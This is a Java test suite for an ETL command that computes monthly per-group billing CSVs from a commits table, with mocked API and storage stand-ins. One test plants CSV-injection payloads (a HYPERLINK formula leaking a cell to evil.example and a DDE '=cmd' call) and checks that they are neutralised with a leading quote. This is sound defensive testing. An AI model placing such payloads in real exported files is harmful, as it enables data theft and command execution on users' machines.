package io.observes.etl.code;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.WireMockServer;
import io.observes.storage.S3Uri;
import io.observes.testing.ApiEtlStandIns;
import io.observes.testing.CliRun;
import io.observes.testing.MutableClock;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * {@code observes etl compute-bills} against PostgreSQL holding a {@code code.commits} fixture,
 * WireMock as the platform's GraphQL API and s3proxy as the platform's bucket: the exact CSVs.
 */
class ComputeBillsTest extends ApiEtlStandIns {
  static final String TOKEN = "platform-token-5b1e0c";
  WireMockServer platform;
  MutableClock clock = new MutableClock(Instant.parse("2026-11-20T17:00:00Z"));

  @BeforeAll
  static void bucket() {
    s3.createBucket("integrates");
  }

  @BeforeEach
  void start() throws Exception {
    reset();
    s3.client().listObjectsV2Paginator(b -> b.bucket("integrates")).contents()
        .forEach(o -> s3.client().deleteObject(b -> b.bucket("integrates").key(o.key())));
    platform = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
    platform.start();
    for (Map.Entry<String, String> g : Map.of("alpha", "acme", "beta", "acme", "gamma", "okada", "delta", "acme").entrySet()) {
      platform.stubFor(post(urlPathEqualTo("/api")).withHeader("Authorization", equalTo("Bearer " + TOKEN))
          .withRequestBody(matchingJsonPath("$.variables.name", equalTo(g.getKey())))
          .willReturn(aResponse().withHeader("Content-Type", "application/json")
              .withBody("{\"data\": {\"group\": {\"organization\": \"" + g.getValue() + "\"}}}")));
    }
    pg.execute("DROP SCHEMA IF EXISTS code CASCADE; CREATE SCHEMA code; CREATE TABLE code.commits (namespace VARCHAR(64), "
        + "repository VARCHAR(128), hash VARCHAR(40), fa_hash VARCHAR(64), author_name VARCHAR(128), author_email VARCHAR(128), "
        + "authored_at TIMESTAMPTZ, seen_at TIMESTAMPTZ)");
    commit("alpha", "web", "a1", "fa-a1", "Ana Ruiz", "ana@example.com", "2026-11-05T10:00:00Z");
    commit("alpha", "api", "a0", "fa-a0", "Ana Ruiz", "ana@example.com", "2026-11-03T10:00:00Z");
    commit("beta", "etl", "a3", "fa-a3", "Ana Ruiz", "ana@example.com", "2026-11-10T10:00:00Z");
    // Bob's first commit was in October; the same change seen again in November is not billed again.
    commit("gamma", "infra", "b-old", "fa-b-old", "Bob Li", "bob@example.com", "2026-10-20T10:00:00Z");
    commit("gamma", "infra-mirror", "b-copy", "fa-b-old", "Bob Li", "bob@example.com", "2026-11-02T10:00:00Z");
    commit("gamma", "infra", "b5", "fa-b5", "Bob Li", "bob@example.com", "2026-11-12T10:00:00Z");
    // One change seen in two groups in the same month: billed in both.
    commit("alpha", "web", "c1", "fa-shared", "Carla \"CJ\" Diaz, Jr.", "carla@example.com", "2026-11-04T10:00:00Z");
    commit("gamma", "infra", "c2", "fa-shared", "Carla \"CJ\" Diaz, Jr.", "carla@example.com", "2026-11-06T10:00:00Z");
    // delta is active, but its only commit of the month was first seen in September.
    commit("delta", "legacy", "d1", "fa-d0", "Dan Wu", "dan@example.com", "2026-11-01T00:00:00Z");
    commit("delta", "legacy", "d0", "fa-d0", "Dan Wu", "dan@example.com", "2026-09-01T00:00:00Z");
    // A repository seen without commits, and December's first commit: neither counts.
    commit("epsilon", "empty", "-".repeat(40), null, null, null, "2026-11-07T00:00:00Z");
    commit("alpha", "web", "next", "fa-next", "Ana Ruiz", "ana@example.com", "2026-12-01T00:00:00Z");
  }

  @AfterEach
  void stop() {
    platform.stop();
  }

  void commit(String group, String repository, String hash, String fa, String name, String email, String seen) throws Exception {
    try (var c = pg.connect(); var s = c.prepareStatement("INSERT INTO code.commits (namespace, repository, hash, fa_hash, "
        + "author_name, author_email, authored_at, seen_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?)")) {
      s.setString(1, group);
      s.setString(2, repository);
      s.setString(3, hash);
      s.setString(4, fa);
      s.setString(5, name);
      s.setString(6, email);
      s.setTimestamp(7, java.sql.Timestamp.from(Instant.parse(seen)));
      s.setTimestamp(8, java.sql.Timestamp.from(Instant.parse(seen)));
      s.executeUpdate();
    }
  }

  Map<String, String> env() {
    Map<String, String> env = standInEnvironment();
    env.put("OBSERVES_INTEGRATES_API_URL", "http://127.0.0.1:" + platform.port() + "/api");
    env.put("OBSERVES_PLATFORM_API_TOKEN", TOKEN);
    return env;
  }

  String file(String key) {
    return new String(s3.store().read(new S3Uri("integrates", key)).orElseThrow(() -> new AssertionError("no " + key)),
        StandardCharsets.UTF_8);
  }

  List<String> keys(String prefix) {
    return s3.store().list(new S3Uri("integrates", prefix)).stream().map(S3Uri::key).sorted().toList();
  }

  @Test
  void billsEveryActiveGroupWithEachAuthorsFirstCommitOfTheMonth() throws Exception {
    s3.store().put(new S3Uri("integrates", "continuous-data/bills/2026/11/zeta.csv"), "actor,commit,groups,repository\r\n"
        .getBytes(StandardCharsets.UTF_8));

    CliRun.Result r = CliRun.run(env(), clock, "etl", "compute-bills");

    assertThat(r.code()).as(r.err() + r.logs()).isZero();
    String month = "continuous-data/bills/2026/11/";
    assertThat(keys(month)).containsExactly(month + "20/_manifest.json", month + "20/alpha.csv", month + "20/beta.csv",
        month + "20/delta.csv", month + "20/gamma.csv", month + "_manifest.json", month + "alpha.csv", month + "beta.csv",
        month + "delta.csv", month + "gamma.csv");
    assertThat(file(month + "alpha.csv")).isEqualTo("actor,commit,groups,repository\r\n"
        + "Ana Ruiz <ana@example.com>,a0,\"alpha, beta\",api\r\n"
        + "\"Carla \"\"CJ\"\" Diaz, Jr. <carla@example.com>\",c1,alpha,web\r\n");
    assertThat(file(month + "beta.csv")).isEqualTo("actor,commit,groups,repository\r\n"
        + "Ana Ruiz <ana@example.com>,a3,\"alpha, beta\",etl\r\n");
    assertThat(file(month + "gamma.csv")).isEqualTo("actor,commit,groups,repository\r\n"
        + "Bob Li <bob@example.com>,b5,gamma,infra\r\n"
        + "\"Carla \"\"CJ\"\" Diaz, Jr. <carla@example.com>\",c2,gamma,infra\r\n");
    assertThat(file(month + "delta.csv")).isEqualTo("actor,commit,groups,repository\r\n");
    assertThat(file(month + "20/gamma.csv")).isEqualTo(file(month + "gamma.csv"));
    assertThat(file(month + "_manifest.json")).contains("\"month\" : \"2026-11\"", "alpha.csv", "gamma.csv")
        .doesNotContain("zeta");
    // Each group's organization asked once per run.
    platform.verify(4, postRequestedFor(urlPathEqualTo("/api")));
    assertThat(pg.rows("SELECT status FROM observes_meta.runs WHERE job = 'compute-bills'")).extracting(row -> row.get("status"))
        .containsExactly("SUCCEEDED");
    assertThat(r.out()).contains("Billed 2026-11: 4 group(s), 5 line(s)");
  }

  @Test
  void cellsASpreadsheetWouldReadAsFormulasAreNeutralisedWithAQuote() throws Exception {
    platform.stubFor(post(urlPathEqualTo("/api")).withRequestBody(matchingJsonPath("$.variables.name", equalTo("omega")))
        .willReturn(aResponse().withHeader("Content-Type", "application/json")
            .withBody("{\"data\": {\"group\": {\"organization\": \"evil\"}}}")));
    String[][] authors = {{"=HYPERLINK(\"http://evil.example/?\"&A1,\"Pay\")", "h"}, {"+1+1", "p"}, {"-2+3", "m"},
        {"@SUM(A1:A9)", "s"}, {"\tTabbed", "t"}, {"\rReturn", "r"}, {"'quoted", "q"}, {"Plain = fine", "f"}};
    for (int i = 0; i < authors.length; i++) {
      commit("omega", i == 0 ? "=cmd|' /C calc'!A0" : "repo", "o" + i, "fa-o" + i, authors[i][0], authors[i][1] + "@x.com",
          "2026-11-0" + (1 + i) + "T10:00:00Z");
    }

    CliRun.Result r = CliRun.run(env(), clock, "etl", "compute-bills");

    assertThat(r.code()).as(r.err() + r.logs()).isZero();
    assertThat(file("continuous-data/bills/2026/11/omega.csv")).isEqualTo("actor,commit,groups,repository\r\n"
        + "'\tTabbed <t@x.com>,o4,omega,repo\r\n"
        + "\"'\rReturn <r@x.com>\",o5,omega,repo\r\n"
        + "''quoted <q@x.com>,o6,omega,repo\r\n"
        + "'+1+1 <p@x.com>,o1,omega,repo\r\n"
        + "'-2+3 <m@x.com>,o2,omega,repo\r\n"
        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Pay\"\") <h@x.com>\",o0,omega,'=cmd|' /C calc'!A0\r\n"
        + "'@SUM(A1:A9) <s@x.com>,o3,omega,repo\r\n"
        + "Plain = fine <f@x.com>,o7,omega,repo\r\n");
  }

  @Test
  void aPastMonthIsBilledWithoutADayCopyAndARerunIsTheSame() throws Exception {
    CliRun.Result first = CliRun.run(env(), clock, "etl", "compute-bills", "--month", "2026-10");
    String before = file("continuous-data/bills/2026/10/gamma.csv");
    CliRun.Result again = CliRun.run(env(), clock, "etl", "compute-bills", "--month", "2026-10");

    assertThat(first.code()).as(first.err()).isZero();
    assertThat(again.code()).isZero();
    assertThat(keys("continuous-data/bills/2026/10/")).containsExactly("continuous-data/bills/2026/10/_manifest.json",
        "continuous-data/bills/2026/10/gamma.csv");
    assertThat(file("continuous-data/bills/2026/10/gamma.csv")).isEqualTo(before)
        .isEqualTo("actor,commit,groups,repository\r\nBob Li <bob@example.com>,b-old,gamma,infra\r\n");
  }

  @Test
  void aGroupThePlatformDoesNotKnowFailsTheRunAndWritesNothing() throws Exception {
    platform.stubFor(post(urlPathEqualTo("/api")).atPriority(1)
        .withRequestBody(matchingJsonPath("$.variables.name", equalTo("gamma")))
        .willReturn(aResponse().withHeader("Content-Type", "application/json")
            .withBody("{\"errors\": [{\"message\": \"Access denied or group not found\", \"path\": [\"group\"]}], "
                + "\"data\": {\"group\": null}}")));

    CliRun.Result r = CliRun.run(env(), clock, "etl", "compute-bills");

    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).contains("asking the organization of group gamma", "Access denied or group not found");
    assertThat(keys("continuous-data/")).isEmpty();
    assertThat(r.all()).doesNotContain(TOKEN);
  }

  @Test
  void aDryRunWritesNothing() throws Exception {
    CliRun.Result r = CliRun.run(env(), clock, "etl", "compute-bills", "--dry-run");

    assertThat(r.code()).as(r.err()).isZero();
    assertThat(r.out()).contains("Dry run, nothing written; would bill 2026-11: 4 group(s), 5 line(s)", "alpha: 2 active author(s)");
    assertThat(keys("continuous-data/")).isEmpty();
  }

  @Test
  void aCommitsTableWithoutTheColumnsBillingReadsIsAClearError() throws Exception {
    pg.execute("ALTER TABLE code.commits DROP COLUMN fa_hash");

    CliRun.Result r = CliRun.run(env(), clock, "etl", "compute-bills");

    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).contains("code.commits lacks the column(s) [fa_hash]");
  }
}
